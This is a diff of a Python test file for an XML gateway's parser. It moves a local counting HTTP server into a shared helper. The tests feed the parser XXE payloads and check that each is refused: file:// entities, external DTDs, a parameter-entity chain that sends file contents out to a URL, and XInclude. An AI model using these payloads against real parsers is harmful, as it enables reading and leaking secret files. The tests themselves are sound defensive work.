@@ -5,9 +5,7 @@ from __future__ import annotations
 import codecs
 import contextlib
 import os
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -18,45 +16,16 @@ from lxml import etree  # type: ignore[import-untyped]
 from gateway.errors import InboundRejected, XmlRejected
 from gateway.wire.xml import XmlLimits, read_xml
 from gateway.wire.xml.reader import _parse_bounded
+from tests.support.counting_http import CountingServer, counting_server
 
 WCO = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "xml" / "wco-dec-dms"
 SECRET = "top-secret-6f1c2e"
 
 
-class Server:
-    """An HTTP server on 127.0.0.1 that counts its hits (and would serve a payload)."""
-
-    def __init__(self) -> None:
-        self.hits = 0
-        counter = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                counter.hits += 1
-                body = f'<!ENTITY leak "{SECRET}">'.encode()
-                self.send_response(200)
-                self.send_header("Content-Length", str(len(body)))
-                self.end_headers()
-                self.wfile.write(body)
-
-            def log_message(self, *args: object) -> None:
-                pass
-
-        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
-
-
 @pytest.fixture
-def server() -> Iterator[Server]:
-    srv = Server()
-    thread = threading.Thread(target=srv.httpd.serve_forever, daemon=True)
-    thread.start()
-    try:
+def server() -> Iterator[CountingServer]:
+    with counting_server(f'<!ENTITY leak "{SECRET}">'.encode()) as srv:
         yield srv
-    finally:
-        srv.httpd.shutdown()
-        srv.httpd.server_close()
-        thread.join()
 
 
 @pytest.fixture
@@ -116,19 +85,19 @@ def test_external_entity_to_a_file(secret_file: Path) -> None:
     assert "DOCTYPE" in str(refused(data))
 
 
-def test_external_entity_over_http(server: Server) -> None:
+def test_external_entity_over_http(server: CountingServer) -> None:
     data = (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{server.url}/x">]><r>&x;</r>').encode()
     refused(data)
     assert server.hits == 0
 
 
-def test_external_dtd_over_http(server: Server) -> None:
+def test_external_dtd_over_http(server: CountingServer) -> None:
     refused(f'<!DOCTYPE r SYSTEM "{server.url}/r.dtd"><r>&leak;</r>'.encode())
     refused(f'<!DOCTYPE r PUBLIC "-//X//DTD R//EN" "{server.url}/r.dtd"><r/>'.encode())
     assert server.hits == 0
 
 
-def test_parameter_entities(server: Server, secret_file: Path) -> None:
+def test_parameter_entities(server: CountingServer, secret_file: Path) -> None:
     data = (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{server.url}/p.dtd"> %p;'
             f'<!ENTITY % f SYSTEM "file://{secret_file}">'
             f'<!ENTITY % e "<!ENTITY &#x25; g SYSTEM \'{server.url}/?%f;\'>"> %e; %g;]>'
@@ -157,7 +126,7 @@ def test_an_undefined_entity_is_refused_at_its_line() -> None:
     assert refused(b"<r>\n\n<c>&x;</c></r>").line == 3
 
 
-def test_xinclude_is_not_processed(server: Server, secret_file: Path) -> None:
+def test_xinclude_is_not_processed(server: CountingServer, secret_file: Path) -> None:
     data = ('<r xmlns:xi="http://www.w3.org/2001/XInclude">'
             f'<xi:include href="file://{secret_file}" parse="text"/>'
             f'<xi:include href="{server.url}/x.xml"/></r>').encode()
@@ -167,7 +136,7 @@ def test_xinclude_is_not_processed(server: Server, secret_file: Path) -> None:
     assert server.hits == 0
 
 
-def test_the_parser_itself_reads_nothing_outside(server: Server, secret_file: Path) -> None:
+def test_the_parser_itself_reads_nothing_outside(server: CountingServer, secret_file: Path) -> None:
     # Defence in depth: were the DOCTYPE check gone, the parser's own options still hold.
     for data in (f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret_file}">]><r>&x;</r>',
                  f'<!DOCTYPE r [<!ENTITY x SYSTEM "{server.url}/x">]><r>&x;</r>',
